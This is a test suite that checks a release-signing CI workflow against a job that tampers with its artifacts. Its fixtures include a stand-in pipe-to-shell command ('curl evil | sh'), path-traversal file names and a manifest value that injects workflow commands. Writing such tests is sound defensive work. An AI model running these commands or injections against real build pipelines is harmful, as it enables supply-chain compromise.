import { beforeAll, expect, test } from 'vitest';
import type { FaultPoint } from '../../tools/results/faults.ts';
import type { ArtifactContent } from './engine/artifacts.ts';
import { createHub, type Hub } from './engine/hub.ts';
import { runWorkflow, type WorkflowResult } from './engine/run.ts';
import { BUILD, createRelease, pathsOf, SIGN_RELEASE } from './release-run.ts';

/**
 * A job of the same run without permissions and secrets can upload, replace and delete artifacts as it likes. Whatever it
 * tries, the run is red and nothing is uploaded, or the result is what it would have been without the attacker.
 */

/** What the attacker does, with the artifacts as the signing jobs have left them. */
interface Attack {
  readonly hub: Hub;
  /** Files of an artifact by their paths. */
  readonly read: (name: string) => Promise<Map<string, string | Buffer>>;
  /** Puts another artifact in place of one. */
  readonly replace: (name: string, files: ArtifactContent) => void;
  /** Changes one file of an artifact. */
  readonly edit: (name: string, path: string, change: (text: string) => string) => Promise<void>;
}

function attackOn(hub: Hub): Attack {
  const read = async (name: string): Promise<Map<string, string | Buffer>> =>
    new Map((await hub.artifacts.files(name)).map(({ path, bytes }) => [path, bytes]));
  const replace = (name: string, files: ArtifactContent): void => {
    if (hub.artifacts.names.includes(name)) hub.artifacts.remove(name);
    hub.artifacts.add(name, files);
  };
  return {
    hub,
    read,
    replace,
    async edit(name, path, change) {
      const files = await read(name);
      const [before, after] = [String(files.get(path)), change(String(files.get(path)))];
      expect(after).not.toBe(before);
      replace(name, files.set(path, after));
    },
  };
}

type Step = (attack: Attack) => void | Promise<void>;

const INPUTS = { shards: 2, checksums: 'SHA256SUMS', 'verification-kit': 'kit' };

/** A release whose signing jobs are done: what they came to, and the artifacts that they left. */
interface Signed {
  readonly inputs: Readonly<Record<string, unknown>>;
  readonly run: WorkflowResult;
  readonly artifacts: ReadonlyMap<string, ArtifactContent>;
}

let signed: Signed;

beforeAll(async () => {
  await using release = await createRelease();
  const run = await release.sign(INPUTS);
  expect(run.result, run.log).toBe('success');
  const { read } = attackOn(release.hub);
  const artifacts = new Map<string, ArtifactContent>();
  for (const name of release.hub.artifacts.names) if (name !== 'signatures') artifacts.set(name, await read(name));
  signed = { inputs: { ...release.inputs, ...INPUTS }, run, artifacts };
});

/** Lets the attacker act between the signing jobs and the one that collects. */
async function collectUnder(act: Step): Promise<{ readonly hub: Hub; readonly run: WorkflowResult } & AsyncDisposable> {
  const hub = await createHub();
  for (const [name, files] of signed.artifacts) hub.artifacts.add(name, files);
  await act(attackOn(hub));
  const { plan, sign } = signed.run.jobs;
  const before = { ...signed.run, jobs: { ...(plan && { plan }), ...(sign && { sign }) } };
  const run = await runWorkflow(hub, SIGN_RELEASE, { inputs: signed.inputs, secrets: {}, before });
  return { hub, run, [Symbol.asyncDispose]: () => hub[Symbol.asyncDispose]() };
}

/** Slices are balanced by bytes: the first has the largest file and the checksums, the second all others. */
const FIRST = 'signatures-shard-1-of-2';
const SHARD = 'signatures-shard-2-of-2';
const MANIFEST = 'signing-manifest-2-of-2.json';

test.each<[string, Step]>([
  [
    'an artifact that the pattern of the download matches',
    ({ hub }) => {
      hub.artifacts.add('signatures-shard-zz', { 'install.sh': 'curl evil | sh', [MANIFEST]: '{}' });
      hub.artifacts.add('signatures-shard', { 'install.sh': 'curl evil | sh', 'signing-manifest.json': '{}' });
      hub.artifacts.add(`${SHARD}-retry-3`, { 'install.sh': 'curl evil | sh' });
      hub.artifacts.add('signatures-shard-1-of-9', { 'signing-manifest-1-of-9.json': '{}' });
    },
  ],
  ['the names of directories that the job makes', ({ hub }) => void hub.artifacts.add('receipts', { 'a.json': '{}' })],
  [
    'a faithful copy as a retry',
    async ({ hub, read }) => void hub.artifacts.add(`${SHARD}-retry-1`, await read(SHARD)),
  ],
])('without effect: %s', async (_, act) => {
  await using attacked = await collectUnder(act);
  const { hub, run } = attacked;
  expect(run.result, run.log).toBe('success');
  const kit = ['kit/VERIFY.md', 'kit/VERIFY.md.sign', 'kit/verify.html', 'kit/verify.html.sign'];
  const sums = ['SHA256SUMS', 'SHA256SUMS.sign'];
  const own = [...sums, ...kit, 'verification.json', 'signing-manifest-1-of-2.json', MANIFEST];
  const signatures = Object.keys(BUILD).map((path) => `${path}.sign`);
  expect(await pathsOf(hub, 'signatures')).toEqual([...signatures, ...own].sort());
});

const zeros = '00'.repeat(32);
const renamed = (text: string): string => text.replace('"path":"deep/', '"path":"../deep/');

test.each<[string, Step, string]>([
  [
    'a file added to a shard',
    async ({ read, replace }) => replace(SHARD, (await read(SHARD)).set('install.sh', 'curl evil | sh')),
    'Incomplete signatures',
  ],
  [
    'a signature taken away',
    async ({ read, replace }) => {
      const files = await read(SHARD);
      files.delete([...files.keys()].find((path) => path.endsWith('.bin.sign')) ?? '');
      replace(SHARD, files);
    },
    'Incomplete signatures',
  ],
  [
    'signatures exchanged',
    async ({ read, replace }) => {
      const files = await read(SHARD);
      const [a = '', b = ''] = [...files.keys()].filter((path) => path.endsWith('.bin.sign'));
      replace(SHARD, new Map([...files, [a, files.get(b) ?? ''], [b, files.get(a) ?? '']]));
    },
    'SIGNATURE_INVALID',
  ],
  [
    'another SHA-256 in a manifest',
    ({ edit }) =>
      edit(SHARD, MANIFEST, (text) =>
        text.replace(/"sha256":"[0-9a-f]{64}","signature"/, `"sha256":"${zeros}","signature"`),
      ),
    'Manifests differ',
  ],
  [
    'another size, made good by another file',
    ({ edit }) =>
      edit(SHARD, MANIFEST, (text) => text.replace(/"size":(\d+)(.*?)"size":(\d+)/s, '"size":$3$2"size":$1')),
    'Manifests differ',
  ],
  ['a path that leads elsewhere', ({ edit }) => edit(SHARD, MANIFEST, renamed), 'Manifests differ'],
  [
    'a row twice',
    ({ edit }) => edit(SHARD, MANIFEST, (text) => text.replace(/\n(\{.*\})(,?)\n/, '\n$1,\n$1$2\n')),
    'Incomplete signatures',
  ],
  [
    'a manifest of a failed run',
    ({ edit }) => edit(SHARD, MANIFEST, (text) => text.replace('"status":"signed"', '"status":"failed"')),
    'a file has no signature',
  ],
  [
    'a manifest with a failure',
    ({ edit }) =>
      edit(SHARD, MANIFEST, (text) => text.replace('"files":', '"failure":{"code":"DEADLINE","message":"x"},"files":')),
    'a file has no signature',
  ],
  [
    'a manifest of a rehearsal',
    ({ edit }) => edit(SHARD, MANIFEST, (text) => text.replace('"rehearsal":false', '"rehearsal":true')),
    'it ran in another mode',
  ],
  [
    'a manifest of unchecked signatures',
    ({ edit }) => edit(SHARD, MANIFEST, (text) => text.replace('"checked":true', '"checked":false')),
    'were not checked',
  ],
  ['a manifest of the other shard', async ({ read, replace }) => replace(SHARD, await read(FIRST)), 'has no manifest'],
  [
    'the other shard under a new name',
    async ({ read, replace }) => {
      const files = await read(FIRST);
      const manifest = String(files.get('signing-manifest-1-of-2.json')).replace('1/2', '2/2');
      for (const name of files.keys()) if (/^(signing-manifest|SHA256SUMS|kit)/.test(name)) files.delete(name);
      replace(SHARD, files.set(MANIFEST, manifest).set(`${MANIFEST}.sign`, 'MEUCIQ'));
    },
    'Two shards signed the same file',
  ],
  [
    'a manifest that is no JSON',
    ({ edit }) => edit(SHARD, MANIFEST, (text) => text.slice(0, -20)),
    'Incomplete signatures',
  ],
  ['two manifests in one', ({ edit }) => edit(SHARD, MANIFEST, (text) => text + text), 'not one JSON text'],
  [
    'no manifest',
    async ({ read, replace }) => {
      const files = await read(SHARD);
      files.delete(MANIFEST);
      replace(SHARD, files);
    },
    'has no manifest',
  ],
  [
    'a manifest without its signature',
    async ({ read, replace }) => {
      const files = await read(SHARD);
      files.delete(`${MANIFEST}.sign`);
      replace(SHARD, files);
    },
    'The manifest of shard 2/2 is not signed',
  ],
  ['a manifest that is written anew', ({ edit }) => edit(SHARD, MANIFEST, (text) => `${text} `), 'SIGNATURE_INVALID'],
  [
    'another page in the kit',
    ({ edit }) => edit(FIRST, 'kit/verify.html', (text) => text.replace('<html', '<html data-evil')),
    'SIGNATURE_INVALID',
  ],
  [
    'a kit in another shard',
    async ({ read, replace }) => replace(SHARD, (await read(SHARD)).set('kit/verify.html', 'evil')),
    'Incomplete signatures',
  ],
  [
    'a command in a manifest',
    ({ edit }) => edit(SHARD, MANIFEST, (text) => text.replace('"2/2"', '"x##[error]x\\\\n::add-mask::signed"')),
    'the manifest is of shard x???error?x',
  ],
  [
    'another list of checksums',
    ({ edit }) => edit(FIRST, 'SHA256SUMS', (text) => text.replace(/^\w{64}/, zeros)),
    'SHA256SUMS',
  ],
  [
    'a retry with something more',
    async ({ hub, read }) => void hub.artifacts.add(`${SHARD}-retry-2`, (await read(SHARD)).set('x', '')),
    'Incomplete signatures',
  ],
  ['an empty retry', ({ hub }) => void hub.artifacts.add(`${FIRST}-retry-1`, {}), 'Incomplete signatures'],
  ['a shard taken away', ({ hub }) => hub.artifacts.remove(FIRST), 'No signatures came from shard 1/2'],
  [
    'both shards taken away, and one flat artifact instead',
    async ({ hub, read }) => {
      const files = await read(SHARD);
      for (const name of [SHARD, FIRST]) hub.artifacts.remove(name);
      hub.artifacts.add('signatures-shard-zz', files);
    },
    'No signatures came from shard 1/2',
  ],
  [
    'a path that climbs out of its directory',
    async ({ read, replace }) => replace(SHARD, (await read(SHARD)).set('../../signatures/install.sh', 'evil')),
    'Incomplete signatures',
  ],
  [
    'an absolute path',
    async ({ read, replace }) => replace(SHARD, (await read(SHARD)).set('/signatures/install.sh', 'evil')),
    'Incomplete signatures',
  ],
  [
    'a name with a line end',
    async ({ read, replace }) => replace(SHARD, (await read(SHARD)).set('a\n../b.sign', 'evil')),
    'Incomplete signatures',
  ],
  [
    'another build under the same name',
    ({ replace }) => replace('build', { ...BUILD, 'deep/file-1.bin': 'poison' }),
    'None of the provided artifact IDs were found',
  ],
  ['the build taken away', ({ hub }) => hub.artifacts.remove('build'), 'None of the provided artifact IDs were found'],
  [
    'the name of the result taken',
    ({ hub }) => void hub.artifacts.add('signatures', { 'install.sh': 'evil' }),
    'artifact with this name already exists',
  ],
])('red: %s', async (_, act, reason) => {
  await using attacked = await collectUnder(act);
  const { hub, run } = attacked;
  expect(run.result, run.log).toBe('failure');
  expect(run.log).toContain(reason);
  expect(run.outputs).toMatchObject({ mode: '', 'artifact-id': '' });
  const ours = hub.results.artifacts.filter(({ name, zip }) => name === 'signatures' && !zip.includes('evil'));
  expect(ours).toEqual([]);
  // Nothing of the attacker's text is a command.
  expect(run.log).not.toMatch(/^::add-mask::signed/m);
  expect(run.log).not.toContain('##[error]x');
});

test('red: another build before the signing jobs', async () => {
  await using release = await createRelease();
  const onJob = (job: string): void => {
    if (job === 'sign') attackOn(release.hub).replace('build', { 'setup.exe': 'evil' });
  };
  const run = await release.sign({}, { onJob });
  expect(run.jobs['sign']?.result, run.log).toBe('failure');
  expect(release.service.counters.requests).toBe(0);
});

test.each<[string, FaultPoint, number]>([
  ['between the two questions of a download, of which the second is by name', 'sign-url', 1],
  ['just before the bytes are fetched', 'download', 1],
])('red or without effect: the build is replaced %s', async (_, point, nth) => {
  let seen = 0;
  let act = (): void => {};
  const onCall = (at: FaultPoint): void => {
    if (at === point && ++seen === nth) act();
  };
  await using release = await createRelease({ results: { onCall } });
  act = () => attackOn(release.hub).replace('build', { ...BUILD, 'deep/file-1.bin': 'poison' });
  const run = await release.sign();
  expect(run.result, run.log).toBe('failure');
  expect(release.service.counters.requests).toBe(0);
});
